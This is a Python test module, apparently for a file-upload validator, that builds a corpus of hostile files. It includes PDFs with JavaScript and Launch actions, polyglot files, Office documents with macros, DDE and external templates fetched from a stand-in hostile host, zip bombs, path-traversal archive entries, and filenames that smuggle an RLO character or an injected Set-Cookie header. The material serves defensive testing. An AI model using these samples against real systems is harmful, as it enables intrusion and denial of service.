"""Hostile files: each with its name, the slots that may take it all the same, and why the others do not."""

import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field

import pikepdf

from tests.factories.jahat_isi import (
    PAGE,
    SVG,
    TYPES,
    acting,
    archive_of,
    attachment,
    clip,
    comments,
    dde,
    declared,
    deep,
    document,
    entities,
    film,
    hidden,
    link,
    locked,
    locked_zip,
    lying,
    many,
    moving,
    overlapping,
    padded,
    page_action,
    parts,
    pdf,
    picture,
    png,
    related,
    scans,
    script_of_names,
    swollen,
    twice,
    xfa,
)

LAMPIRAN, DOKUMEN, FOTO, VIDEO, MODUL, LOGO = SLOTS = ("lampiran", "dokumen", "foto", "video", "modul", "logo")


@dataclass(frozen=True)
class Jahat:
    """A file as somebody means to send it."""

    nama: str
    isi: Callable[[], bytes]
    terima: frozenset[str] = field(default_factory=frozenset)
    """Slots in which it is let in, made harmless or harmless there."""
    sebab: str = ""
    """Part of the sentence in Indonesian that a document slot answers."""


PICTURES = frozenset({LAMPIRAN, DOKUMEN, FOTO, LOGO})
PAPERS = frozenset({LAMPIRAN, DOKUMEN, MODUL})
ZIPS = frozenset({MODUL})
_JS = {"JS": "app.alert(1)"}
_RUNS, _CARRIES, _OUTSIDE = "menjalankan program atau skrip", "membawa berkas lain", "mengambil isi dari luar"
_OBJECT, _MACRO, _BROKEN, _NOT_THIS = "OLE atau ActiveX", "makro", "rusak", "ternyata"

CORPUS = (
    # PDF that acts
    Jahat("skrip.pdf", lambda: pdf(acting("JavaScript", **_JS)), sebab=_RUNS),
    Jahat("skrip-tersembunyi.pdf", lambda: hidden("JavaScript", **_JS), sebab=_RUNS),
    Jahat("skrip-terenkripsi.pdf", lambda: locked(True, acting("JavaScript", **_JS)), sebab=_RUNS),
    Jahat(
        "skrip-disandikan.pdf",
        lambda: pdf(acting("JavaScript", **_JS)).replace(b"/JavaScript", b"/#4aavaScript"),
        sebab=_RUNS,
    ),
    Jahat("skrip-nama.pdf", lambda: pdf(script_of_names), sebab=_RUNS),
    Jahat("skrip-halaman.pdf", lambda: pdf(page_action), sebab=_RUNS),
    Jahat("luncur.pdf", lambda: pdf(acting("Launch", F="calc.exe")), sebab=_RUNS),
    Jahat("skrip-berbantal.pdf", padded, sebab=_RUNS),
    Jahat("luncur-tersembunyi.pdf", lambda: hidden("Launch", F="calc.exe"), sebab=_RUNS),
    Jahat("impor.pdf", lambda: hidden("ImportData", F="a.fdf"), sebab=_RUNS),
    Jahat(
        "skrip-di-antara-banyak.pdf",
        lambda: pdf(many, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        sebab=_RUNS,
    ),
    Jahat("lampiran.pdf", lambda: pdf(attachment), sebab=_CARRIES),
    Jahat("klip.pdf", lambda: pdf(clip, object_stream_mode=pikepdf.ObjectStreamMode.generate), sebab=_CARRIES),
    Jahat("film.pdf", lambda: pdf(film), sebab=_CARRIES),
    Jahat("xfa.pdf", lambda: pdf(xfa), sebab="XFA"),
    Jahat("terkunci.pdf", lambda: locked(False), sebab="dikunci kata sandi"),
    # two things at once
    Jahat("halaman-depan.pdf", lambda: b"%PDF-1.7\n" + PAGE + pdf(), sebab="halaman HTML"),
    Jahat("halaman-belakang.pdf", lambda: pdf() + PAGE, sebab="halaman HTML"),
    Jahat("html-lalu.pdf", lambda: PAGE + pdf()),
    Jahat("zip-di-belakang.pdf", lambda: pdf() + archive_of({"a.txt": b"x"}) + b"\n%%EOF\n"),
    Jahat("jpg-dan-zip.jpg", lambda: picture("JPEG") + archive_of({"a.html": PAGE}), sebab="memuat arsip ZIP"),
    Jahat("png-dan-zip.png", lambda: picture("PNG") + archive_of({"a.html": PAGE}), sebab="memuat arsip ZIP"),
    Jahat("gif-skrip.gif", lambda: b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", sebab="GIF"),
    Jahat("zip-lalu-html.zip", lambda: archive_of({"a.txt": b"x"}) + PAGE),
    Jahat("docx-lalu-html.docx", lambda: document({}) + PAGE, sebab="disusul isi lain"),
    Jahat("html-lalu-zip.zip", lambda: PAGE + archive_of({"a.txt": b"x"})),
    Jahat("exe-lalu-zip.docx", lambda: b"MZ" + b"\0" * 100 + document({}), sebab=_NOT_THIS),
    Jahat("mp4-dan-zip.mp4", lambda: b"\0\0\0\x18ftypmp42\0\0\0\0isomiso2" + archive_of({"a.txt": b"x"})),
    # what is no document at all
    Jahat("surat.pdf", lambda: PAGE, sebab="HTML"),
    Jahat("foto.png", lambda: SVG, sebab="SVG"),
    Jahat("foto.jpg", lambda: b"\xef\xbb\xbf \n" + SVG),
    Jahat("surat.pdf.exe", lambda: b"MZ" + b"\0" * 300, sebab="program"),
    Jahat("surat.docx", lambda: b"\x7fELF\2\1\1" + b"\0" * 200, sebab=_NOT_THIS),
    Jahat("surat.pdf", lambda: b"#!/bin/sh\necho halo\n", sebab="program"),
    Jahat("lama.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, sebab="Office lama"),
    Jahat("kosong.pdf", lambda: b"", sebab="kosong"),
    Jahat("acak.bin", lambda: random.Random(7).randbytes(4000)),
    # Office that acts, reaches out, carries
    Jahat("makro.docx", lambda: document({"word/vbaProject.bin": b"makro"}), sebab=_MACRO),
    Jahat("makro-nama-lain.docx", lambda: declared("application/vnd.ms-office.vbaProject"), sebab=_MACRO),
    Jahat("templat.docx", lambda: related("attachedTemplate", "https://jahat.contoh.test/a.dotm"), sebab=_OUTSIDE),
    Jahat("bingkai.docx", lambda: related("frame", "https://jahat.contoh.test/a"), sebab=_OUTSIDE),
    Jahat("gambar-luar.docx", lambda: related("image", "https://jahat.contoh.test/a.png"), sebab=_OUTSIDE),
    Jahat("objek-luar.docx", lambda: related("oleObject", "mhtml:https://jahat.contoh.test/!x"), sebab=_OUTSIDE),
    Jahat("server-luar.docx", lambda: related("externalLinkPath", "file:///\\\\jahat\\a.xlsx"), sebab=_OUTSIDE),
    Jahat("ole.docx", lambda: document({"word/embeddings/oleObject1.bin": b"harmless"}), sebab=_OBJECT),
    Jahat(
        "ole-nama-lain.docx", lambda: document({"word/media/a.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), sebab=_OBJECT
    ),
    Jahat("activex.docx", lambda: document({"word/activeX/activeX1.xml": b"<a/>"}), sebab=_OBJECT),
    Jahat(
        "ole-dinyatakan.docx",
        lambda: declared("application/vnd.openxmlformats-officedocument.oleObject"),
        sebab=_OBJECT,
    ),
    Jahat("dde.docx", dde, sebab="DDE"),
    Jahat("entitas.docx", entities, sebab="tidak dapat dibaca"),
    Jahat(
        "makro-di-dalam.docx",
        lambda: document({"word/embeddings/a.docx": document({"word/vbaProject.bin": b"m"})}),
        sebab=_MACRO,
    ),
    Jahat(
        "templat-dinyatakan.docx",
        lambda: archive_of(parts() | {TYPES: parts()[TYPES].replace(b"document.main", b"template.main")}),
    ),
    # archives
    Jahat("bom.zip", lambda: swollen(210_000_000)),
    Jahat("bengkak.zip", lambda: swollen(60_000_000)),
    Jahat("bom.docx", lambda: document({"word/media/a.xml": b"0" * 210_000_000}), sebab="setelah dibuka"),
    Jahat("banyak.zip", lambda: archive_of({f"{n}.txt": b"" for n in range(2001)})),
    Jahat("bersarang.zip", lambda: deep(3)),
    Jahat(
        "bom-bersarang.zip",
        lambda: archive_of({f"{n}.zip": swollen(15_000_000) for n in range(20)}),
    ),
    Jahat("rar-di-dalam.zip", lambda: archive_of({"a.rar": b"Rar!\x1a\7\1\0" + b"\0" * 50})),
    Jahat("program.zip", lambda: archive_of({"pasang.exe": b"harmless"})),
    Jahat("program-nama-lain.zip", lambda: archive_of({"baca.txt": b"MZ" + b"\0" * 90})),
    Jahat("pintasan.zip", lambda: archive_of({"Materi.pdf.lnk": b"harmless"})),
    Jahat("makro-di-dalam.zip", lambda: archive_of({"a.docx": document({"word/vbaProject.bin": b"m"})})),
    Jahat("keluar.zip", lambda: archive_of({"../../luar.txt": b"x"})),
    Jahat("mutlak.zip", lambda: archive_of({"/etc/passwd": b"x"})),
    Jahat("cakram.zip", lambda: archive_of({"C:\\luar.txt": b"x"})),
    Jahat("tautan.zip", link),
    Jahat("kembar.zip", twice),
    Jahat("bertumpuk.zip", overlapping),
    Jahat("bohong.zip", lying),
    Jahat("terkunci.zip", locked_zip),
    Jahat("lzma.zip", lambda: archive_of({"a.txt": b"x" * 500}, zipfile.ZIP_LZMA)),
    # pictures
    Jahat("60-juta.png", lambda: png(10_000, 6_000), sebab="juta piksel"),
    Jahat("400-juta.png", lambda: png(20_000, 20_000)[:5000], sebab="juta piksel"),
    Jahat("komentar.png", comments, sebab=_BROKEN),
    Jahat("bergerak.png", lambda: moving("PNG"), frozenset({LOGO}), sebab="bergerak"),
    Jahat("bergerak.webp", lambda: moving("WEBP"), frozenset({LOGO})),
    Jahat("lapis.jpg", scans, sebab=_BROKEN),
    Jahat("separuh.jpg", lambda: picture("JPEG", (900, 900))[:600], sebab=_BROKEN),
    # let in, but made harmless
    Jahat("skrip-di-belakang.jpg", lambda: picture("JPEG") + b"<script>alert(1)</script>", PICTURES),
    Jahat("skrip-di-komentar.jpg", lambda: picture("JPEG", comment=b"<script>alert(1)</script>"), PICTURES),
    Jahat("gambar.png.html", lambda: picture("PNG"), PICTURES),
    Jahat("surat\u202efdp.exe", pdf, PAPERS),
    Jahat("surat\r\nSet-Cookie: a=b.pdf", pdf, PAPERS),
    Jahat("../../etc/passwd", pdf, PAPERS),
    Jahat("pemilik.pdf", lambda: locked(True), PAPERS),
)
